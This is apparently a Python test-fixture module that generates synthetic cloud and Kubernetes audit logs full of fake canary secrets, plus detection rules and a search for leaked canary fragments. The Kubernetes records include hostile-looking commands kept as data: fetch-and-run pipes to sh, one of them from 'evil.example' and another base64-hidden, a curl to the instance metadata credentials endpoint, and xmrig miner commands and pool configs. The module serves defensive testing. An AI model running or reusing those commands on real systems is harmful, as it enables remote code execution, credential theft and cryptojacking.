"""Logs of every kind that davy reads, with a canary of each kind of secret where such secrets really lie; rules that hit them all
and group by the very fields that hold the secrets; and the search for pieces of canaries in what is said of them. Nothing of it is
real. Used by tests/canaries_system; whoever brings logs in by another way brings in these.
"""
import base64
import json
import os
import random
import urllib.parse

PIECE = 11  # of a canary; what is as long and the same by chance is not
ACCOUNT, KEY_ID = "111122223333", "AKIACANARYEXAMPLE001"
LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"


class Canaries:
    """Secrets that are nowhere else: each is made once, by what it is."""

    def __init__(self):
        self.chance, self.kept = random.Random(4), {}

    def letters(self, count, alphabet=LETTERS):
        return "".join(self.chance.choice(alphabet) for _ in range(count))

    def keep(self, kind, text):
        self.kept.setdefault(kind, []).append(text)
        return text

    def word(self, kind, count=24):
        return self.keep(kind, self.letters(count))

    def password(self, kind="password"):
        return self.keep(kind, self.letters(9) + "!" + self.letters(9))

    def aws_secret(self):
        return self.keep("secret access key", self.letters(40, LETTERS + "/+"))

    def aws_session(self):
        return "IQoJb3JpZ2luX2VjE" + self.keep("session token", self.letters(120, LETTERS + "/+"))

    def jwt(self, kind="token"):
        head = base64.urlsafe_b64encode(b'{"alg":"RS256","kid":"k"}').decode().rstrip("=")
        return f"{head}.{self.keep(kind, self.letters(60))}.{self.keep(kind, self.letters(60, LETTERS + '-_'))}"

    def signature(self, kind="SAS signature"):
        return self.keep(kind, self.letters(43, LETTERS + "/+")) + "="

    def private_key(self):
        body = "\n".join(self.keep("private key", self.letters(64)) for _ in range(2))
        kind = "PRIVATE KEY"
        return f"-----BEGIN {kind}-----\n{body}\n-----END PRIVATE KEY-----\n"

    def pieces(self):
        """(kind, piece) of every form: as it is, percent-encoded, in base64 wherever in a longer text it begins."""
        for kind, texts in self.kept.items():
            for text in texts:
                forms = {text, urllib.parse.quote(text, safe="")}
                for shift in range(3):
                    encoded = base64.b64encode(b"\n" * shift + text.encode()).decode()
                    forms.add(encoded[4 if shift else 0:-4])
                    forms.add(base64.b64encode(encoded.encode()).decode()[:-4])
                for form in forms:
                    for at in range(0, max(1, len(form) - PIECE + 1), 4):
                        yield kind, form[at:at + PIECE]


def b64(text):
    return base64.b64encode(text.encode()).decode()


def quoted(text):
    return urllib.parse.quote(text, safe="")


def stamp(second):
    return f"2026-11-22T10:{second // 60 % 60:02}:{second % 60:02}Z"


# -- AWS --

def cloudtrail(second, service, name, request=None, response=None, **rest):
    return {"eventVersion": "1.09", "userIdentity": {"type": "IAMUser", "principalId": "AIDACANARY", "arn": f"arn:aws:iam::{ACCOUNT}:user/ci",
                                                    "accountId": ACCOUNT, "accessKeyId": KEY_ID, "userName": "ci"},
            "eventTime": stamp(second), "eventSource": f"{service}.amazonaws.com", "eventName": name, "awsRegion": "eu-west-1",
            "sourceIPAddress": "198.51.100.7", "userAgent": "aws-cli/2.15", "requestParameters": request, "responseElements": response,
            "eventID": f"00000000-0000-4000-8000-{second:012}", "readOnly": False, "eventType": "AwsApiCall", "managementEvent": True,
            "recipientAccountId": ACCOUNT, **rest}


def cloudtrail_records(c):
    script = f"#!/bin/sh\nexport DB_PASSWORD={c.password()}\nmysql -p{c.password()} -h db <<<'select 1'\ncurl -u admin:{c.password()} https://i/\n"
    keys = {"accessKeyId": "ASIACANARYEXAMPLE002", "secretAccessKey": c.aws_secret(), "sessionToken": c.aws_session()}
    calls = [
        ("iam", "CreateAccessKey", {"userName": "ci"}, {"accessKey": {"accessKeyId": KEY_ID, "status": "Active", "secretAccessKey": c.aws_secret()}}),
        ("iam", "CreateLoginProfile", {"userName": "ci", "password": c.password()}, None),
        ("iam", "ChangePassword", {"oldPassword": c.password(), "newPassword": c.password()}, None),
        ("sts", "AssumeRole", {"roleArn": f"arn:aws:iam::{ACCOUNT}:role/r", "roleSessionName": "s", "externalId": "partner-7"},
         {"credentials": keys}),
        ("sts", "AssumeRoleWithSAML", {"sAMLAssertionID": "_1", "sAMLAssertion": b64(f"<Assertion>{c.word('SAML assertion', 60)}</Assertion>")},
         {"credentials": {**keys, "sessionToken": c.aws_session()}}),
        ("sts", "AssumeRoleWithWebIdentity", {"webIdentityToken": c.jwt("web identity token"), "roleSessionName": "w"}, {"credentials": keys}),
        ("ec2", "RunInstances", {"instancesSet": {"items": [{"imageId": "ami-1", "minCount": 40, "maxCount": 40}]}, "instanceType": "p4d.24xlarge",
                                 "userData": b64(script)}, {"instancesSet": {"items": [{"instanceId": "i-0123456789abcdef0"}]}}),
        ("ec2", "CreateKeyPair", {"keyName": "k"}, {"keyName": "k", "keyMaterial": c.private_key()}),
        ("ec2", "GetPasswordData", {"instanceId": "i-0123456789abcdef0"}, {"passwordData": c.word("password data", 80)}),
        ("lambda", "UpdateFunctionConfiguration20150331v2", {"functionName": "f", "environment": {"variables": {
            "DB_URL": f"postgres://app:{c.password()}@db.internal:5432/app", "API_TOKEN": c.word("token", 40)}}}, None),
        ("lambda", "Invoke", {"functionName": "f", "payload": json.dumps({"headers": {"Authorization": f"Bearer {c.jwt()}"}})}, None),
        ("ssm", "PutParameter", {"name": "/prod/db", "value": c.password(), "type": "SecureString"}, None),
        ("ssm", "SendCommand", {"documentName": "AWS-RunShellScript", "parameters": {"commands": [f"mysqldump -uroot -p{c.password()} all"]}}, None),
        ("secretsmanager", "CreateSecret", {"name": "prod/db", "secretString": json.dumps({"username": "u", "password": c.password()})}, None),
        ("secretsmanager", "GetSecretValue", {"secretId": "prod/db"}, {"secretString": c.password(), "secretBinary": b64(c.password())}),
        ("rds", "CreateDBInstance", {"dBInstanceIdentifier": "d", "masterUsername": "admin", "masterUserPassword": c.password()}, None),
        ("rds", "CopyDBSnapshot", {"preSignedUrl": "https://rds.eu-west-1.amazonaws.com/?Action=CopyDBSnapshot&X-Amz-Security-Token="
                                   f"{quoted(c.aws_session())}&X-Amz-Signature={c.word('signature', 64)}", "dBSnapshotIdentifier": "s"}, None),
        ("ecs", "RegisterTaskDefinition", {"family": "t", "containerDefinitions": [{"image": "i", "environment": [
            {"name": "PASSWORD", "value": c.password()}], "command": ["sh", "-c", f"curl -H 'Authorization: Bearer {c.jwt()}' x"]}]}, None),
        ("codebuild", "CreateProject", {"name": "p", "source": {"location": f"https://bot:{c.word('token', 36)}@git.internal/a.git"},
                                        "environment": {"environmentVariables": [{"name": "K", "value": c.aws_secret()}]}}, None),
        ("sagemaker", "CreateNotebookInstanceLifecycleConfig", {"onStart": [{"content": b64(script)}]}, None),
        ("ecr", "GetAuthorizationToken", {}, {"authorizationData": [{"authorizationToken": b64(f"AWS:{c.word('registry token', 60)}")}]}),
        ("cognito-idp", "InitiateAuth", {"authParameters": {"USERNAME": "u", "PASSWORD": c.password()}},
         {"authenticationResult": {"accessToken": c.jwt(), "refreshToken": c.jwt()}}),
        ("kms", "Decrypt", {"keyId": "k"}, {"plaintext": b64(c.password())}),
        ("s3", "GetObject", {"bucketName": "b", "key": "k", "X-Amz-Signature": c.word("signature", 64), "x-amz-security-token": c.aws_session()}, None),
    ]
    for i, call in enumerate(calls):
        yield cloudtrail(10 * i, *call)
    at = 10 * len(calls)
    wrong = cloudtrail(at, "iam", "UpdateLoginProfile", {"password": c.password()}, errorCode="ValidationError",
                       errorMessage=f"1 validation error: Value '{c.password()}' at 'password' failed to satisfy constraint")
    yield wrong
    yield cloudtrail(at + 10, "signin", "ConsoleLogin", None, {"ConsoleLogin": "Failure"}, errorMessage="Failed authentication",
                     additionalEventData={"LoginTo": f"https://console.aws.amazon.com/console/home?code={c.word('code', 40)}&token={c.jwt()}"})


def s3_access_lines(c):
    for i in range(3):
        signed = (f"X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential={KEY_ID}%2F20261122%2Feu-west-1%2Fs3%2Faws4_request&X-Amz-Date=20261122T100000Z"
                  f"&X-Amz-Security-Token={quoted(c.aws_session())}&X-Amz-Signature={c.word('presigned signature', 64)}")
        old = f"AWSAccessKeyId={KEY_ID}&Expires=1799999999&Signature={quoted(c.signature('presigned signature'))}"
        referer = f"https://u:{c.password()}@web.internal/?token={c.word('token', 32)}"
        yield (f"79a5canary bucket-{i} [22/Nov/2026:10:00:{i:02} +0000] 198.51.100.7 arn:aws:iam::{ACCOUNT}:user/ci REQ{i} REST.GET.OBJECT a/b{i}.csv "
               f'"GET /a/b{i}.csv?{signed if i else old} HTTP/1.1" 200 - 99 99 8 7 "{referer}" "curl/8.5" - HOSTID SigV4 TLS_AES QueryString '
               f"bucket-{i}.s3.eu-west-1.amazonaws.com TLSv1.3 - -")


def guardduty_records(c):
    yield {"version": "0", "detail-type": "GuardDuty Finding", "source": "aws.guardduty", "detail": {
        "schemaVersion": "2.0", "accountId": ACCOUNT, "region": "eu-west-1", "id": "canary1", "type": "CryptoCurrency:EC2/BitcoinTool.B!DNS",
        "arn": f"arn:aws:guardduty:eu-west-1:{ACCOUNT}:detector/d/finding/canary1", "severity": 8, "createdAt": stamp(1), "updatedAt": stamp(2),
        "resource": {"resourceType": "Instance", "instanceDetails": {"instanceId": "i-0123456789abcdef0",
                                                                     "tags": [{"key": "password", "value": c.password()}]},
                     "accessKeyDetails": {"accessKeyId": KEY_ID, "principalId": "AIDACANARY", "userName": "ci", "userType": "IAMUser"}},
        "service": {"serviceName": "guardduty", "detectorId": "d", "eventFirstSeen": stamp(1), "count": 3, "action": {
            "actionType": "AWS_API_CALL", "awsApiCallAction": {"api": "RunInstances", "errorCode": "", "userAgent": "aws-cli", "serviceName": "ec2",
                                                               "remoteIpDetails": {"ipAddressV4": "198.51.100.7"}}},
            "additionalInfo": {"commandLine": f"xmrig -u x -p {c.password()}", "sample": b64(c.aws_secret())}}}}


# -- Azure --

SUBSCRIPTION = "/subscriptions/00000000-1111-4222-8333-444444444444"


def azure(second, operation, properties, resource="/resourceGroups/g/providers/Microsoft.Storage/storageAccounts/s"):
    return {"time": stamp(second), "resourceId": SUBSCRIPTION + resource, "operationName": operation, "category": "Administrative",
            "resultType": "Success", "callerIpAddress": "198.51.100.7", "correlationId": f"00000000-0000-4000-9000-{second:012}",
            "identity": {"claims": {"upn": "mallory@contoso.example", "uti": "token-id"}, "authorization": {"action": operation}},
            "properties": properties}


def azure_records(c):
    machine = {"osProfile": {"adminUsername": "a", "adminPassword": c.password(), "customData": b64(f"#cloud-config\npassword: {c.password()}\n"),
                             "secrets": []}}
    extension = {"publisher": "Microsoft.Azure.Extensions", "settings": {"commandToExecute": f"sh x --password {c.password()}"},
                 "protectedSettings": {"commandToExecute": f"echo {c.password()}", "storageAccountKey": c.keep("account key", c.letters(80, LETTERS + '/+')) + "=="}}
    keys = {"keys": [{"keyName": "key1", "value": c.keep("account key", c.letters(86, LETTERS + "/+")) + "=="}]}
    sas = f"?sv=2022-11-02&ss=b&srt=sco&sp=rl&se=2027-01-01T00%3A00%3A00Z&sig={quoted(c.signature())}"
    yield azure(1, "MICROSOFT.STORAGE/STORAGEACCOUNTS/LISTKEYS/ACTION", {"responseBody": json.dumps(keys), "statusCode": "OK"})
    yield azure(2, "MICROSOFT.STORAGE/STORAGEACCOUNTS/LISTACCOUNTSAS/ACTION", {"responseBody": json.dumps({"accountSasToken": sas[1:]})})
    yield azure(3, "MICROSOFT.COMPUTE/VIRTUALMACHINES/WRITE", {"requestbody": json.dumps({"properties": machine}), "entity": "e"},
                "/resourceGroups/g/providers/Microsoft.Compute/virtualMachines/vm1")
    yield azure(4, "MICROSOFT.COMPUTE/VIRTUALMACHINES/EXTENSIONS/WRITE", {"requestbody": json.dumps({"properties": extension})},
                "/resourceGroups/g/providers/Microsoft.Compute/virtualMachines/vm1/extensions/x")
    yield azure(5, "MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION", {"requestbody": json.dumps({"script": [f"mysql -p{c.password()}"]})},
                "/resourceGroups/g/providers/Microsoft.Compute/virtualMachines/vm1")
    yield azure(6, "MICROSOFT.COMPUTE/DISKS/BEGINGETACCESS/ACTION", {"responseBody": json.dumps({"accessSAS": "https://md.blob.core.windows.net/d/abcd" + sas})},
                "/resourceGroups/g/providers/Microsoft.Compute/disks/d")
    yield azure(7, "MICROSOFT.WEB/SITES/CONFIG/WRITE", {"requestbody": json.dumps({"properties": {
        "DB": f"Server=tcp:db;Password={c.password()};", "Q": f"Endpoint=sb://q/;SharedAccessKey={c.signature('account key')}"}})})


def azure_storage_records(c):
    for i in range(3):
        uri = (f"https://s.blob.core.windows.net:443/box/b{i}.csv?sv=2022-11-02&sp=r&se=2027-01-01&skoid=1&sig={quoted(c.signature())}")
        yield {"time": stamp(i), "resourceId": SUBSCRIPTION + "/resourceGroups/g/providers/Microsoft.Storage/storageAccounts/s/blobServices/default",
               "category": "StorageRead", "operationName": "GetBlob", "statusCode": 200, "statusText": "Success", "callerIpAddress": "198.51.100.7:50000",
               "correlationId": f"00000000-0000-4000-a000-{i:012}", "uri": uri, "identity": {"type": "SAS", "tokenHash": "key1(A1B2),SasSignature(C3D4)"},
               "properties": {"accountName": "s", "userAgentHeader": "azcopy/10", "objectKey": f"/s/box/b{i}.csv", "responseBodySize": 10,
                              "referrerHeader": uri, "requestHeaders": {"Authorization": f"Bearer {c.jwt()}", "x-ms-copy-source": uri}}}


def entra_sign_in_records(c):
    yield {"time": stamp(1), "operationName": "Sign-in activity", "category": "SignInLogs", "resultType": "50126", "callerIpAddress": "198.51.100.7",
           "tenantId": "t", "properties": {"id": "si1", "createdDateTime": stamp(1), "userPrincipalName": "mallory@contoso.example", "userId": "u",
                                           "appDisplayName": "a", "ipAddress": "198.51.100.7", "userAgent": "Mozilla", "status": {"errorCode": 50126},
                                           "authenticationDetails": [{"authenticationMethod": "Password", "password": c.password()}],
                                           "authenticationProcessingDetails": [{"key": "client_assertion", "value": c.jwt("federated token")}]}}


def entra_audit_records(c):
    for i, (name, kind) in enumerate((("Update application – Certificates and secrets management", "client secret"),
                                      ("Add service principal credentials", "client secret"), ("Reset user password", "password"))):
        secret = c.word(kind, 40)
        yield {"time": stamp(i), "operationName": name, "category": "AuditLogs", "tenantId": "t", "resultSignature": "None", "properties": {
            "id": f"au{i}", "activityDateTime": stamp(i), "activityDisplayName": name, "result": "failure" if i == 2 else "success",
            "resultReason": f"the new password={secret} is too old; access denied" if i == 2 else "",
            "initiatedBy": {"user": {"userPrincipalName": "mallory@contoso.example", "ipAddress": "198.51.100.7"}},
            "targetResources": [{"type": "Application", "displayName": "app", "id": "1", "modifiedProperties": [
                {"displayName": "KeyDescription", "newValue": json.dumps([f"[KeyIdentifier=1,KeyType=Password,secretText={secret}]"])},
                {"displayName": "federatedToken", "newValue": c.jwt("federated token")}]}],
            "additionalDetails": [{"key": "client_secret", "value": secret}]}}


# -- Google --

def gcp(second, service, method, resource, request=None, response=None, **rest):
    return {"insertId": f"canary{second}", "logName": "projects/shop-1/logs/cloudaudit.googleapis.com%2Factivity", "timestamp": stamp(second),
            "resource": {"type": "gce_instance", "labels": {"project_id": "shop-1", "zone": "europe-west1-b"}},
            "protoPayload": {"@type": "type.googleapis.com/google.cloud.audit.AuditLog", "serviceName": service, "methodName": method, "resourceName": resource,
                             "authenticationInfo": {"principalEmail": "mallory@example.com"},
                             "requestMetadata": {"callerIp": "198.51.100.7", "callerSuppliedUserAgent": "google-cloud-sdk"},
                             "request": request, "response": response, **rest}}


def gcp_records(c):
    account = {"type": "service_account", "private_key_id": "abcdef0123456789", "private_key": c.private_key(), "client_email": "x@shop-1.iam.gserviceaccount.com"}
    script = f"#!/bin/sh\necho {c.password()}\ncurl -H 'Authorization: Bearer ya29.{c.word('access token', 60)}' https://x\n"
    yield gcp(1, "iam.googleapis.com", "google.iam.admin.v1.CreateServiceAccountKey", "projects/-/serviceAccounts/x@shop-1.iam.gserviceaccount.com", None,
              {"name": "projects/shop-1/serviceAccounts/x@shop-1.iam.gserviceaccount.com/keys/abcdef0123456789", "private_key_data": b64(json.dumps(account)), **account})
    yield gcp(2, "compute.googleapis.com", "v1.compute.instances.insert", "projects/shop-1/zones/europe-west1-b/instances/vm1", {
        "name": "vm1", "machineType": "a2-megagpu-16g", "metadata": {"items": [{"key": "startup-script", "value": script},
                                                                             {"key": "ssh-keys", "value": c.private_key()}]}})
    yield gcp(3, "iamcredentials.googleapis.com", "GenerateAccessToken", "projects/-/serviceAccounts/x@shop-1.iam.gserviceaccount.com", None,
              {"accessToken": f"ya29.{c.word('access token', 120)}"})
    yield gcp(4, "iamcredentials.googleapis.com", "SignBlob", "projects/-/serviceAccounts/x", {"payload": b64(c.password())},
              {"signedBlob": c.signature("signed blob"), "keyId": "k"})
    yield gcp(5, "storage.googleapis.com", "storage.objects.get", "projects/_/buckets/box/objects/a.csv", None, None,
              metadata={"requestUri": f"https://storage.googleapis.com/box/a.csv?X-Goog-Algorithm=x&X-Goog-Signature={c.word('signature', 128)}",
                        "headers": {"Authorization": f"Bearer ya29.{c.word('access token', 60)}"}})
    yield gcp(6, "secretmanager.googleapis.com", "google.cloud.secretmanager.v1.SecretManagerService.AddSecretVersion", "projects/shop-1/secrets/db",
              {"payload": {"data": b64(c.password())}})
    yield gcp(7, "run.googleapis.com", "google.cloud.run.v1.Services.CreateService", "namespaces/shop-1/services/s", {"service": {"spec": {"template": {"spec": {
        "containers": [{"image": "i", "env": [{"name": "PASSWORD", "value": c.password()}]}]}}}}})
    yield gcp(8, "cloudsql.googleapis.com", "cloudsql.users.create", "projects/shop-1/instances/db", {"user": {"name": "root", "password": c.password()}},
              None, status={"code": 3, "message": f"password {c.password()} is too weak"})


def workspace_records(c):
    yield {"kind": "admin#reports#activity", "id": {"time": stamp(1), "uniqueQualifier": "canary", "applicationName": "admin", "customerId": "C1"}, "actor": {"email": "mallory@example.com"},
           "ipAddress": "198.51.100.7", "events": [{"type": "USER_SETTINGS", "name": "CHANGE_PASSWORD", "parameters": [
               {"name": "USER_EMAIL", "value": "bob@example.com"}, {"name": "NEW_VALUE", "value": c.password()}]}]}
    yield gcp(2, "oauth2.googleapis.com", "google.identity.oauth2.Authorize", "organizations/1/oauth", None, None, metadata={"event": [{
        "eventName": "authorize", "parameter": [{"name": "client_id", "value": "app"}, {"name": "refresh_token", "value": f"1//{c.word('refresh token', 60)}"}]}]})


# -- Kubernetes --

def kube(second, verb, resource, name="", namespace="web", sub="", query="", code=200, **rest):
    path = f"/api/v1/namespaces/{namespace}/{resource}" + (f"/{name}" if name else "") + (f"/{sub}" if sub else "")
    reference = {"resource": resource, "namespace": namespace, "apiVersion": "v1", **({"name": name} if name else {}), **({"subresource": sub} if sub else {})}
    return {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse", "auditID": f"00000000-0000-4000-b000-{second:012}",
            "stage": "ResponseComplete", "requestURI": path + query, "verb": verb, "user": {"username": "mallory", "groups": ["system:authenticated"]},
            "sourceIPs": ["198.51.100.7"], "userAgent": "kubectl/v1.29", "objectRef": reference, "responseStatus": {"code": code},
            "requestReceivedTimestamp": stamp(second), "stageTimestamp": stamp(second),
            "annotations": {"authorization.k8s.io/decision": "allow"}, **rest}


def container(c, command, **rest):
    return {"name": "m", "image": "docker.io/pool/xmrig:6", "command": ["sh", "-c", command],
            "env": [{"name": "DB_PASSWORD", "value": c.password()}, {"name": "URL", "value": f"amqp://u:{c.password()}@q.internal:5672/"},
                    {"name": "AWS_ACCESS_KEY_ID", "value": KEY_ID}, {"name": "AWS_SECRET_ACCESS_KEY", "value": c.aws_secret()}], **rest}


def pod(c, name, command):
    body = {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": name, "namespace": "web"}, "spec": {
        "containers": [container(c, command)], "hostPID": True}}
    body["metadata"]["annotations"] = {"kubectl.kubernetes.io/last-applied-configuration": json.dumps(body), "token": c.word("token", 30)}
    return body


def kube_records(c):
    registry = {"auths": {"r.internal": {"username": "u", "password": c.password(), "auth": b64(f"u:{c.password()}")}}}
    secret = {"kind": "Secret", "apiVersion": "v1", "metadata": {"name": "db", "annotations": {
        "kubectl.kubernetes.io/last-applied-configuration": json.dumps({"stringData": {"password": c.password()}})}},
        "data": {"password": b64(c.password()), ".dockerconfigjson": b64(json.dumps(registry)), "key": b64(c.aws_secret()), "id": b64(KEY_ID)},
        "stringData": {"token": c.jwt()}}
    yield kube(0, "create", "secrets", "db", code=201, requestObject=secret, responseObject=secret)
    for i in range(7):
        yield kube(1 + i, "get", "secrets", f"db{i}", responseObject={**secret, "data": {"p": b64(c.password()), "id": b64(KEY_ID)}})
    yield kube(10, "list", "secrets", namespace="", responseObject={"kind": "SecretList", "items": [secret]})
    yield kube(11, "create", "tokenreviews", requestObject={"spec": {"token": c.jwt()}}, responseObject={"status": {"authenticated": True}})
    yield kube(12, "create", "serviceaccounts", "builder", sub="token", code=201, responseObject={"kind": "TokenRequest", "status": {"token": c.jwt()}})
    for i, command in enumerate((["mysql", f"-p{c.password()}"], ["sh", "-c", f"xmrig -o pool.example:3333 -u w --password={c.password()}"],
                                 ["curl", "-H", f"Authorization: Bearer {c.jwt()}", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
                                 ["curl", "-u", f"admin:{c.password()}", "https://u:" + c.password() + "@evil.example/x|sh"],
                                 ["sh", "-c", f"echo {b64('export PASSWORD=' + c.password() + '; curl http://x/y | sh')} | base64 -d | sh"])):
        query = "?" + "&".join("command=" + quoted(word) for word in command) + "&container=m&stdin=true"
        yield kube(20 + i, "create", "pods", f"web-{i}", sub="exec", query=query, code=101)
    pools = (f"stratum+tcp://wallet:{c.password()}@pool.example:3333", f"stratum+ssl://w:{c.letters(3)},{c.word('password')}@pool.example:3333",
             f"stratum+tcp://{c.word('password')}:{c.letters(2)};{c.word('password')}", f"stratum+tcp://w:{c.word('password')}({c.word('password')})@p.example:1")
    for i, pool in enumerate(pools):
        body = pod(c, f"m{i}", f"xmrig --donate-level 1 -o {pool} -u x -p {c.password()} --rig-id r")
        yield kube(30 + i, "create", "pods", f"m{i}", code=201, requestObject=body, responseObject=body)
    yield kube(40, "patch", "deployments", "d", requestObject=[{"op": "add", "path": "/spec/template/spec/containers/0/args",
                                                                 "value": ["xmrig", "-o", f"stratum+tcp://u:{c.password()}@p.example:1", "--nicehash"]}])
    yield kube(41, "create", "configmaps", "miner", code=201, requestObject={"kind": "ConfigMap", "metadata": {"name": "miner"}, "data": {
        "config.json": json.dumps({"pools": [{"url": f"stratum+tcp://w:{c.password()}@p.example:3333", "user": "x", "pass": c.password(), "nicehash": True,
                                               "rig-id": "r"}]})}})
    yield kube(42, "get", "services", "s", sub="proxy", query=f"/login?user=a&password={quoted(c.password())}&access_token={c.jwt()}")
    anonymous = kube(43, "get", "pods", responseObject={"kind": "PodList", "items": [pod(c, "a", "true")]})
    anonymous["user"] = {"username": "system:anonymous", "groups": ["system:unauthenticated"]}
    yield anonymous
    yield {**kube(44, "get", "x"), "objectRef": None, "requestURI": f"/version?token={c.word('token', 32)}", "user": anonymous["user"]}


def gke_records(c):
    for i in range(2):
        record = gcp(i, "k8s.io", "io.k8s.core.v1.secrets.get", f"core/v1/namespaces/web/secrets/s{i}", None,
                     {"kind": "Secret", "data": {"p": b64(c.password())}, "stringData": {"p": c.password()}})
        record["resource"] = {"type": "k8s_cluster", "labels": {"project_id": "shop-1", "cluster_name": "c1"}}
        yield record


def aks_records(c):
    for i in range(2):
        event = kube(50 + i, "create", "pods", f"web-{i}", sub="exec", query=f"?command=sh&command=-c&command={quoted('xmrig --password=' + c.password())}", code=101)
        yield {"time": stamp(i), "resourceId": SUBSCRIPTION + "/RESOURCEGROUPS/G/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/A", "category": "kube-audit",
               "operationName": "Microsoft.ContainerService/managedClusters/diagnosticLogs/Read", "properties": {"log": json.dumps(event), "stream": "stdout"}}


def other_records(c):
    yield {"message": "an application's own", "Authorization": f"Basic {b64('u:' + c.password())}", "cookie": f"session={c.word('cookie', 40)}",
           "url": f"https://u:{c.password()}@x/?token={c.word('token', 40)}"}


# -- rules --

SOURCES = {
    "cloudtrail": ("{product: aws, service: cloudtrail}", "eventName", (
        "requestParameters.userData", "requestParameters.password", "requestParameters.secretString", "requestParameters.masterUserPassword",
        "requestParameters.value", "requestParameters.sAMLAssertion", "requestParameters.webIdentityToken", "requestParameters.payload",
        "requestParameters.preSignedUrl", "requestParameters.environment.variables.DB_URL", "requestParameters.environment.variables.API_TOKEN",
        "responseElements.accessKey.secretAccessKey", "responseElements.credentials.sessionToken", "responseElements.keyMaterial",
        "responseElements.secretString", "responseElements.plaintext", "additionalEventData.LoginTo", "errorMessage", "requestParameters.newPassword",
        "responseElements.passwordData", "requestParameters.parameters.commands", "requestParameters.source.location",
        "requestParameters.authParameters.PASSWORD", "responseElements.authorizationData.authorizationToken",
        "requestParameters.containerDefinitions.environment.value", "requestParameters.onStart.content")),
    "guardduty": ("{product: aws, service: guardduty}", "type", ("service.additionalInfo.commandLine", "service.additionalInfo.sample",
                                                                "resource.instanceDetails.tags.value")),
    "azure": ("{product: azure, service: activitylogs}", "operationName", ("properties.responseBody", "properties.requestbody")),
    "azure_storage": ("{product: azure, service: storage}", "operationName", ("uri", "properties.referrerHeader", "properties.requestHeaders.Authorization",
                                                                             "properties.requestHeaders.x-ms-copy-source")),
    "entra_sign_in": ("{product: azure, service: signinlogs}", "operationName", ("properties.authenticationDetails.password",
                                                                                "properties.authenticationProcessingDetails.value")),
    "entra_audit": ("{product: azure, service: auditlogs}", "operationName", ("properties.resultReason", "properties.additionalDetails.value",
                                                                             "properties.targetResources.modifiedProperties.newValue")),
    "gcp": ("{product: gcp, service: gcp.audit}", "protoPayload.methodName", (
        "protoPayload.request.metadata.items.value", "protoPayload.response.private_key", "protoPayload.response.private_key_data",
        "protoPayload.response.accessToken", "protoPayload.request.payload", "protoPayload.response.signedBlob", "protoPayload.metadata.requestUri",
        "protoPayload.metadata.headers.Authorization", "protoPayload.request.user.password", "protoPayload.status.message",
        "protoPayload.request.payload.data")),
    "workspace": ("{product: google_workspace}", "id.applicationName", ("events.parameters.value",)),
    "kube": ("{product: kubernetes, service: audit}", "verb", (
        "requestURI", "requestObject.data.password", "requestObject.stringData.token", "responseObject.status.token", "requestObject.spec.token",
        "requestObject.spec.containers.env.value", "requestObject.spec.containers.command", "requestObject.data.config.json",
        "requestObject.metadata.annotations.kubectl.kubernetes.io/last-applied-configuration", "requestObject.metadata.annotations.token",
        "responseObject.data.p", "requestObject.value")),
}


def write_rules(folder):
    """A rule that hits each record of a log; and one for each field with a secret, that groups by it."""
    for name, (source, field, fields) in SOURCES.items():
        with open(os.path.join(folder, f"{name}.yml"), "w", encoding="utf-8") as file:
            file.write(f"title: Canary {name}\nname: canary_{name}\nlogsource: {source}\nlevel: high\n"
                       f"detection: {{s: {{'{field}|exists': true}}, condition: s}}\n")
            for i, secret in enumerate(fields):
                by = (f"group-by: ['{secret}']" if i else
                      f"aliases: {{harmless: {{has_{name}_{i}: '{secret}'}}}}, group-by: [harmless]")
                file.write(f"---\ntitle: Has {name} {i}\nname: has_{name}_{i}\nlogsource: {source}\nlevel: high\n"
                           f"detection: {{s: {{'{secret}|exists': true}}, condition: s}}\n"
                           f"---\ntitle: Group {name} {i}\nlevel: high\ncorrelation: {{type: event_count, rules: [has_{name}_{i}], "
                           f"{by}, timespan: 2h, condition: {{gte: 1}}}}\n")


# -- logs --

def lines(records):
    return "".join(json.dumps(record) + "\n" for record in records)


def write_logs(folder, c):
    """File name -> its text; and how many records there are."""
    trail = list(cloudtrail_records(c))
    texts = {
        "trail.json": json.dumps({"Records": trail}),
        "trail-looked-up.json": json.dumps({"Events": [{"EventId": f"x{i}", "CloudTrailEvent": json.dumps({**record, "eventID": f"x{i}"})}
                                                       for i, record in enumerate(trail[:6])]}),
        "trail-bridge.ndjson": lines({"version": "0", "detail-type": "AWS API Call via CloudTrail", "source": "aws.x", "detail": {**record, "eventID": f"y{i}"}}
                                     for i, record in enumerate(trail[:6])),
        "s3-access.log": "".join(line + "\n" for line in s3_access_lines(c)),
        "guardduty.json": lines(guardduty_records(c)), "azure.json": lines(azure_records(c)), "azure-storage.json": lines(azure_storage_records(c)),
        "sign-in.json": lines(entra_sign_in_records(c)), "entra-audit.json": lines(entra_audit_records(c)), "gcp.json": lines(gcp_records(c)),
        "workspace.json": lines(workspace_records(c)), "kube.json": lines(kube_records(c)), "gke.json": lines(gke_records(c)),
        "aks.json": lines(aks_records(c)), "other.json": lines(other_records(c)),
    }
    for name, text in texts.items():
        with open(os.path.join(folder, name), "w", encoding="utf-8") as file:
            file.write(text)
    return texts, len(trail) + 6 + sum(text.count("\n") for name, text in texts.items() if name not in ("other.json", "trail.json", "trail-looked-up.json"))


def broken(text, chance):
    """The same records, cut off, with a brace lost, a quote lost, and lines of no known kind."""
    made = []
    for i, line in enumerate(text.splitlines()):
        at = chance.randrange(len(line) // 3, len(line))
        made.append((line[:at], line.replace("{", "", 1), line[:at] + '"' + line[at:], "x" + line, line.replace(":", " ", 2))[i % 5])
    return "\n".join(made)


# -- what is looked for --

class Search:
    """Every piece of every canary in a text."""

    def __init__(self, canaries):
        self.by_piece = {}
        for kind, piece in canaries.pieces():
            self.by_piece.setdefault(piece, kind)

    def found(self, *texts):
        found = {}
        for text in texts:
            for text in (text, text.replace("\n", "").replace(" ", "")):  # a text for people is laid out in lines
                for at in range(len(text) - PIECE + 1):
                    kind = self.by_piece.get(text[at:at + PIECE])
                    if kind:
                        found.setdefault(kind, text[max(0, at - 60):at + 40])
        return [f"{kind}: {where!r}" for kind, where in sorted(found.items())]
